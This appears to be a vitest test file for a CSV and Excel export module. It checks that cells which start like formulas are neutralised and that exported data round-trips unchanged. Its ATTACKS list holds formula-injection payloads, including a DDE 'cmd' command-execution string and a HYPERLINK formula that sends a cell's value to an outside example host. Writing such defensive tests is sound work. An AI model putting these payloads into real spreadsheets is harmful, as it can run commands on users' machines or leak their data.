import fc from 'fast-check';
import papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { anyText } from '../domain/testing/arbitraries';
import { inert, LIKE_A_FORMULA, type Table } from './cells';
import { csvFile, csvText } from './csv';
import { MAX_CELL_LENGTH } from './excel-text';
import { sheetNames } from './sheet-names';
import { readWorkbook } from './testing/read-workbook';
import { xlsxFile } from './xlsx';

const ATTACKS = [
	'=1+1',
	'+1',
	'-1',
	'@SUM(A1)',
	'\t=1',
	'\r=1',
	'\n=1',
	'\r\n=1',
	' =1',
	'\u00A0=1',
	'\u3000＝1',
	'＝1',
	'＋1',
	'－1',
	'＠x',
	'\u200B=1',
	'\uFEFF=1',
	'\u202E=1',
	'\u0000=1',
	'=HYPERLINK("https://example.org?"&A1,"x")',
	"=cmd|' /C calc'!A0",
	'","=1',
	'x\r\n=1',
];
/** Taken for an object's own, or for an escape, by careless programs. */
const AWKWARD = [
	'constructor',
	'__proto__',
	'toString',
	'_x0041_',
	'_x0041\u0001',
	'_x005F_x0041_',
	'</t></si>',
	'<f>1+1</f>',
	'&amp;',
	' leading and trailing ',
	'a\r\nb\rc\nd\te',
	'\uFFFD\uFFFE\uFDD0\u0085',
	'x\uDC00y\uD800',
	'حوكمة <المدينة>',
	'都市',
	'👨‍👩‍👧🏽',
	'\u{1FFFE}',
	'e\u0301',
	'0012',
	'1e5',
	'TRUE',
	'2024-11-17',
	'ñ'.repeat(10_000),
];

const anyCell = fc.oneof(
	anyText,
	fc.string({ unit: 'grapheme', maxLength: 40 }),
	fc.constantFrom(...ATTACKS, ...AWKWARD),
	fc.tuple(fc.constantFrom(...ATTACKS), anyText).map(([start, rest]) => start + rest),
	fc.double({ noNaN: true, noDefaultInfinity: true }),
	fc.integer(),
	fc.constant(null),
);

const anyTable: fc.Arbitrary<Table> = fc.record({
	name: anyText,
	columns: fc.tuple(anyText, anyText).map(([first, second]) => [
		// Not empty: a column has a heading.
		{ key: 'a', label: `${first}.`, kind: 'text' as const },
		{ key: 'constructor', label: `${second}.`, kind: 'number' as const },
	]),
	rows: fc.array(fc.record({ a: anyCell, constructor: anyCell }), { maxLength: 8 }),
});

const values = ({ columns, rows }: Table) => [
	columns.map(({ label }) => label),
	...rows.map((row) => columns.map(({ key }) => row[key]!)),
];
const one = (text: string | number): Table => ({
	name: 'One',
	columns: [{ key: 'a', label: 'A', kind: 'text' }],
	rows: [{ a: text }],
});

/** What UTF-8 leaves of it: half a surrogate pair is no character. */
const inUtf8 = (text: string) => text.replace(/\p{Cs}/gu, '\uFFFD');

describe('what begins like a formula', () => {
	test.each(ATTACKS.slice(0, -2))('%j', (text) => {
		expect(inert(text)).toBe(`'${text}`);
	});

	test.each(['', 'a=1', '1-2', "'=1", '(+)', '2024', 'a\n=1', '🙂'])('not %j', (text) => {
		expect(inert(text)).toBe(text);
	});
});

describe('CSV', () => {
	// Catches formulas, lost or merged cells, and texts that come back changed.
	test('comes back as it was, and nothing in it is a formula', async () => {
		await fc.assert(
			fc.asyncProperty(anyTable, async (table) => {
				const bytes = new Uint8Array(await (await csvFile(table)).arrayBuffer());
				expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
				const text = new TextDecoder('utf-8', { ignoreBOM: false }).decode(bytes);
				const read = papa.parse<string[]>(text.slice(0, -2), { newline: '\r\n' });
				expect(read.errors).toEqual([]);
				const expected = values(table).map((row) =>
					row.map((cell) => (typeof cell === 'string' ? inUtf8(inert(cell)) : numeral(cell))),
				);
				expect(read.data).toEqual(expected);
				for (const [at, row] of read.data.entries()) {
					for (const [column, cell] of row.entries()) {
						const source = values(table)[at]![column];
						if (typeof source === 'string') expect(cell).not.toMatch(LIKE_A_FORMULA);
					}
				}
			}),
		);
	});

	test('numbers stay numbers, texts are quoted', async () => {
		expect(await csvText({ ...one('x'), rows: [{ a: -12.5 }, { a: '-12.5' }, { a: null }] })).toBe(
			'\uFEFF"A"\r\n-12.5\r\n"\'-12.5"\r\n\r\n',
		);
	});
});

function numeral(cell: number | null): string {
	return cell === null ? '' : String(cell);
}

describe('a workbook', () => {
	test('comes back as it was, and holds no formula', async () => {
		await fc.assert(
			fc.asyncProperty(fc.array(anyTable, { minLength: 1, maxLength: 3 }), async (tables) => {
				const { files, sheets, names } = await readWorkbook(await xlsxFile(tables, 'ltr'));
				for (const [path, text] of Object.entries(files)) {
					if (path.includes('worksheets/')) expect(text).not.toMatch(/<f[\s>/]/u);
				}
				expect(names).toEqual(sheetNames(tables.map(({ name }) => name)));
				for (const [at, table] of tables.entries()) {
					const expected = values(table).map((row) =>
						row.map((cell) => (cell === '' ? null : Object.is(cell, -0) ? 0 : cell)),
					);
					const read = sheets[at]!.map((row) => [row[0] ?? null, row[1] ?? null]);
					expect(read.map((row) => row.map((cell) => (Object.is(cell, -0) ? 0 : cell)))).toEqual(
						expected,
					);
				}
			}),
			{ numRuns: 60 },
		);
	});

	// The generated tables may miss one of them; each alone breaks a careless writer.
	test.each([...ATTACKS, ...AWKWARD].map((text) => [text.slice(0, 40), text]))(
		'keeps %j',
		async (_, text) => {
			const { sheets } = await readWorkbook(await xlsxFile([one(text!)], 'ltr'));
			expect(sheets[0]![1]).toEqual([text]);
		},
	);

	test('a day is a day, and what no calendar of Excel has stays text', async () => {
		const table = {
			...one('2024-02-29'),
			columns: [{ key: 'a', label: 'A', kind: 'date' as const }],
			rows: [{ a: '2024-02-29' }, { a: '2023-02-29' }, { a: '1899-12-31' }, { a: 'soon' }],
		};
		const { sheets } = await readWorkbook(await xlsxFile([table], 'ltr'));
		expect(sheets[0]!.flat()).toEqual(['A', 45351, '2023-02-29', '1899-12-31', 'soon']);
	});

	test('a bold head that stays in sight, from right to left where the language does', async () => {
		const { files } = await readWorkbook(await xlsxFile([one('x'), one('y')], 'rtl'));
		const sheet = files['xl/worksheets/sheet2.xml']!;
		expect(sheet).toContain('rightToLeft="1"');
		expect(sheet).toMatch(/<pane ySplit="1"[^>]*state="frozen"/u);
		expect(files['xl/styles.xml']).toContain('<b/>');
		const { files: ltr } = await readWorkbook(await xlsxFile([one('x')], 'ltr'));
		expect(ltr['xl/worksheets/sheet1.xml']).not.toContain('rightToLeft');
	});

	// Catches a zip that leaves large parts to workers, which our content policy forbids.
	test('64 notes of 10,000 characters come back, and the same tables give the same file', async () => {
		const rows = Array.from({ length: 64 }, (_, at) => ({ a: `${at}${'ñ漢\n'.repeat(3_333)}` }));
		const table = { ...one('x'), rows };
		const file = await xlsxFile([table], 'ltr');
		expect((await readWorkbook(file)).sheets[0]!.slice(1)).toEqual(rows.map(({ a }) => [a]));
		expect(await (await xlsxFile([table], 'ltr')).arrayBuffer()).toEqual(await file.arrayBuffer());
	});

	test('what begins like a formula stays text when somebody edits it', async () => {
		const { files } = await readWorkbook(await xlsxFile([one('=1+1')], 'ltr'));
		const look = Number(/r="A2" s="(\d)"/u.exec(files['xl/worksheets/sheet1.xml']!)![1]);
		const looks = files['xl/styles.xml']!.split('<cellXfs')[1]!.match(/<xf [^>]*>/gu)!;
		expect(looks[look]).toContain('quotePrefix="1"');
	});

	test('refuses what a cell cannot hold rather than cutting it', async () => {
		await expect(xlsxFile([one('x'.repeat(MAX_CELL_LENGTH + 1))], 'ltr')).rejects.toThrow(
			RangeError,
		);
	});
});

test('names of sheets are such as Excel takes', () => {
	fc.assert(
		fc.property(
			fc.array(fc.oneof(anyText, fc.constantFrom('Plan', 'plan', 'x'.repeat(40)))),
			(wanted) => {
				const names = sheetNames(wanted);
				expect(names).toHaveLength(wanted.length);
				expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(wanted.length);
				for (const name of names) {
					expect(name).toMatch(/^(?!')[^[\]/\\:*?\p{Cc}\p{Cs}]{1,31}(?<!')$/u);
					expect(name.length).toBeLessThanOrEqual(31);
				}
			},
		),
	);
	expect(sheetNames(['Scores', 'SCORES', '', 'History', "'a'", 'a/b'])).toEqual([
		'Scores',
		'SCORES (2)',
		'Sheet 3',
		'History (2)',
		'a',
		'a b',
	]);
});
